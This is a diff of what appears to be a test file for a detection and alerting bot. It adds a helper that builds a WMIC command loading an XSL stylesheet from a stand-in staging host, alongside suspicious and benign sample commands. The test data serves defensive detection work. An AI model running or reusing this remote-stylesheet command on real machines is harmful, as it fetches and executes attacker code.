@@ -13,12 +13,16 @@ RESPONDER_A, RESPONDER_B = "U0RESPONDA", "U0RESPONDB"
 YES, NO = "white_check_mark", "x"
 HOST = "WORKSTATION5"
 USER = r"WORKGROUP\wardog"
-URL = "https://stager.example.test/a.xsl"
-MALICIOUS = f'wmic process list /FORMAT:"{URL}"'
 SUSPICIOUS = r"wmic process list /FORMAT:C:\Users\Public\a.xsl"
 BENIGN = "wmic os get Caption /format:csv"
 SEARCH = "wmic_format_hits"
 PROTECTED = "host DC-*\n"
+
+
+def malicious(host: str = HOST, number: int = 1) -> str:
+    """A command line that loads a stylesheet from the network; each host and number its own."""
+    name = host.partition(".")[0].lower()
+    return f'wmic process list /FORMAT:"https://stager.example.test/{name}-{number}.xsl"'
 
 
 def settings(emulators: Emulators) -> dict[str, Any]:
